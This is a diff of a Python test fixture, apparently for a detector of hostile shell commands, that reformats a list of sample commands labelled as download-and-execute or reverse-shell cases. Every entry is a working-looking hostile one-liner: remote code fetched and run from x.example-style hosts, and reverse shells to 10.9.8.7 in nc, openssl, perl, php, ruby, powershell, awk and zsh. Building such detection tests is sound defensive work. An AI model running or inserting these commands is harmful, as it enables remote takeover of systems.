@@ -97,7 +97,7 @@ FOUND: list[tuple[str, str]] = [
     ("`curl -s https://x.example/cmd`", DLEXEC),
     ("cd /tmp; $(wget -qO- https://x.example)", DLEXEC),
     ("if true; then `curl x.example`; fi", DLEXEC),
-    ('python -c "import urllib.request as u;exec(u.urlopen(\'http://x\').read())"', DLEXEC),
+    ("python -c \"import urllib.request as u;exec(u.urlopen('http://x').read())\"", DLEXEC),
     ("python3 -c \"exec(requests.get('https://x.example/p.py').text)\"", DLEXEC),
     ("php -r \"eval(file_get_contents('http://x.example/p'));\"", DLEXEC),
     ("node -e \"eval(await (await fetch('https://x.example')).text())\"", DLEXEC),
@@ -118,19 +118,30 @@ FOUND: list[tuple[str, str]] = [
     # to pipe into a shell; python was the only socket one-liner).
     ("nc 10.9.8.7 4444 | /bin/sh | nc 10.9.8.7 4445", REVSH),
     ("ncat 10.9.8.7 4444 | bash", REVSH),
-    ("openssl s_client -quiet -connect 10.9.8.7:4444 | /bin/sh | openssl s_client -quiet "
-     "-connect 10.9.8.7:4445", REVSH),
+    (
+        "openssl s_client -quiet -connect 10.9.8.7:4444 | /bin/sh | openssl s_client -quiet "
+        "-connect 10.9.8.7:4445",
+        REVSH,
+    ),
     ("mknod /tmp/p p && nc 10.9.8.7 4444 0</tmp/p | /bin/bash 1>/tmp/p", REVSH),
-    ("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
-     "connect(S,sockaddr_in(4444,inet_aton(\"10.9.8.7\")));open(STDIN,\">&S\");"
-     "exec(\"/bin/sh -i\");'", REVSH),
-    ("php -r '$sock=fsockopen(\"10.9.8.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", REVSH),
-    ("ruby -rsocket -e'f=TCPSocket.open(\"10.9.8.7\",4444).to_i;"
-     "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", REVSH),
-    ("powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('10.9.8.7',4444);"
-     "$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0)"
-     "{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String)}\"",
-     REVSH),
+    (
+        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+        'connect(S,sockaddr_in(4444,inet_aton("10.9.8.7")));open(STDIN,">&S");'
+        'exec("/bin/sh -i");\'',
+        REVSH,
+    ),
+    ('php -r \'$sock=fsockopen("10.9.8.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'', REVSH),
+    (
+        'ruby -rsocket -e\'f=TCPSocket.open("10.9.8.7",4444).to_i;'
+        'exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
+        REVSH,
+    ),
+    (
+        "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('10.9.8.7',4444);"
+        "$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0)"
+        '{$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String)}"',
+        REVSH,
+    ),
     ("awk 'BEGIN {s = \"/inet/tcp/0/10.9.8.7/4444\"; while(42) {s |& getline c}}'", REVSH),
     ("zsh -c 'zmodload zsh/net/tcp && ztcp 10.9.8.7 4444 && zsh >&$REPLY 2>&$REPLY'", REVSH),
 ]
